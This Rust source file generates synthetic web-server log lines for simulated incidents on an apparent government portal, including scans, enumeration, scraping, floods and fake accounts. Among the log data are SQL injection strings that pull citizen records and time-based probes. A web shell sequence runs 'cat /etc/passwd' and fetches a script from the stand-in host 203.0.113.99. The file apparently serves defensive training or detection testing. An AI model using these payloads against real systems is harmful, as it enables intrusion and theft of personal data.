//! Cases of the web server and the portal (S2 0101, 0103–0106, S4).

use super::Scene;
use crate::year::ground::Kind;
use crate::year::moment::At;
use crate::year::programs::Asked;

const SCANNER: &str = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)";
const BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36";

impl Scene<'_> {
    fn request(&mut self, at: At, who: (&str, &str), what: (&str, &str), status: u16, agent: &str) {
        let (address, user) = who;
        self.case.lines.ask(
            at,
            &Asked {
                address,
                user,
                what,
                status,
                agent,
            },
        );
    }
}

/// A stranger asks for hundreds of pages that are not there.
pub(super) fn scanned(scene: &mut Scene<'_>) {
    let address = scene.stranger("US");
    let at = scene.at(1, 50);
    let names = [
        "backup.zip",
        "admin.php",
        ".env",
        "wp-config.php.bak",
        "cgi-bin/test.cgi",
        "console",
        "manager/html",
    ];
    for (wait, name) in (0..320).zip(names.iter().cycle()) {
        let path = format!("/d{}/{name}", wait / 7);
        scene.request(at.plus(wait), (&address, "-"), ("GET", &path), 404, SCANNER);
    }
}

/// Statements for the database in the place of a number.
pub(super) fn injection(scene: &mut Scene<'_>) {
    let address = scene.stranger("KR");
    let at = scene.at(15, 5);
    let tries = [
        "id=1%27%20OR%20%271%27=%271",
        "id=1%20UNION%20SELECT%20null,null,version()--",
        "id=-1%20UNION%20SELECT%201,table_name,3%20FROM%20information_schema.tables--",
        "id=1;WAITFOR%20DELAY%20%270:0:5%27--",
        "id=1%20AND%20SLEEP(5)",
        "id=1%20UNION%20ALL%20SELECT%20name,idno,address%20FROM%20citizens--",
    ];
    for (wait, attempt) in (0..60).zip(tries.iter().cycle()) {
        let path = format!("/news/view.php?{attempt}");
        let status = if wait % 6 == 5 { 200 } else { 500 };
        scene.request(
            at.plus(wait * 4),
            (&address, "-"),
            ("GET", &path),
            status,
            BROWSER,
        );
    }
}

/// A false administrator deletes hundreds of applications (S2 0103).
pub(super) fn deleted(scene: &mut Scene<'_>) {
    let (address, who) = (scene.stranger("DE"), "webadmin");
    scene.about(who);
    let at = scene.at(2, 20);
    scene.request(at, (&address, who), ("POST", "/admin/login"), 302, BROWSER);
    for number in 0..350 {
        let path = format!("/admin/applications/{}/delete", 51_000 + number);
        scene.request(
            at.plus(60 + number * 2),
            (&address, who),
            ("POST", &path),
            302,
            BROWSER,
        );
    }
}

/// A program is put where pictures lie, and is given commands.
pub(super) fn shell(scene: &mut Scene<'_>) {
    let address = scene.stranger("FR");
    scene.on("www");
    let at = scene.at(4, 44);
    scene.request(
        at,
        (&address, "-"),
        ("POST", "/upload/photo.php"),
        200,
        BROWSER,
    );
    for (command, wait) in [
        "whoami",
        "id",
        "cat%20/etc/passwd",
        "uname%20-a",
        "wget%20http://203.0.113.99/x.sh",
    ]
    .iter()
    .zip((30..).step_by(20))
    {
        let path = format!("/uploads/2026/img_1.php?cmd={command}");
        scene.request(
            at.plus(wait),
            (&address, "-"),
            ("GET", &path),
            200,
            "python-requests/2.31.0",
        );
    }
}

/// One visitor reads case after case by its number (S2 0104).
pub(super) fn one_after_the_other(scene: &mut Scene<'_>) {
    let address = scene.stranger("TW");
    let at = scene.at(21, 10);
    for number in 0..400 {
        let path = format!("/apply/case/{}/print", 10_400 + number);
        scene.request(
            at.plus(number * 3),
            (&address, "citizen8812"),
            ("GET", &path),
            200,
            BROWSER,
        );
    }
}

/// A program asks the register every four seconds for hours and reads the picture's letters by itself (S2 0106).
pub(super) fn by_a_program(scene: &mut Scene<'_>) {
    let address = scene.stranger("TW");
    let at = scene.at(8, 30);
    for turn in 0..1_500 {
        let second = at.plus(turn * 8);
        scene.request(
            second,
            (&address, "-"),
            ("GET", "/land/captcha.png"),
            200,
            BROWSER,
        );
        let path = format!("/land/query?section=0315&number={}", 100 + turn);
        scene.request(
            second.plus(4),
            (&address, "-"),
            ("POST", &path),
            200,
            BROWSER,
        );
    }
}

/// Somebody at the counter reads hundreds of people for whom nobody has come (S2 0105).
pub(super) fn without_case(scene: &mut Scene<'_>) {
    let person = scene.ground.one_of(Kind::Welfare, 3);
    scene.about(&person.login);
    let at = scene.at(12, 31);
    for number in 0..420 {
        let path = format!("/welfare/person/{}", 30_000 + number * 11);
        scene.request(
            at.plus(number * 5),
            (&person.desk, &person.login),
            ("GET", &path),
            200,
            "",
        );
    }
}

/// A firm takes file after file of the open data (S2 0106 叮三).
pub(super) fn bulk(scene: &mut Scene<'_>) {
    let address = scene.stranger("TW");
    let at = scene.at(18, 0);
    for number in 0..700 {
        let path = format!("/opendata/land/download/{number}.csv");
        scene.request(
            at.plus(number * 4),
            (&address, "firm-3307"),
            ("GET", &path),
            200,
            "python-requests/2.31.0",
        );
    }
}

/// Three addresses ask more than the server can answer.
pub(super) fn flood(scene: &mut Scene<'_>) {
    let at = scene.at(10, 15);
    for country in ["US", "BR", "ID"] {
        let address = scene.stranger(country);
        for number in 0..1_800 {
            let status = if number > 300 { 503 } else { 200 };
            let path = format!("/?{number}");
            scene.request(
                at.plus(number / 12),
                (&address, "-"),
                ("GET", &path),
                status,
                BROWSER,
            );
        }
    }
}

/// Accounts made of other people's numbers sign in from one address and read much (S2 0101).
pub(super) fn false_accounts(scene: &mut Scene<'_>) {
    let address = scene.stranger("TW");
    let at = scene.at(13, 0);
    for account in 0..45 {
        let who = format!("member{}", 70_100 + account);
        let begins = at.plus(account * 80);
        scene.request(
            begins,
            (&address, &who),
            ("POST", "/members/login"),
            302,
            BROWSER,
        );
        for page in 0..20 {
            let path = format!("/members/resume/{}", 8_000 + account * 20 + page);
            scene.request(
                begins.plus(3 + page * 3),
                (&address, &who),
                ("GET", &path),
                200,
                BROWSER,
            );
        }
        scene.about(&who);
    }
}
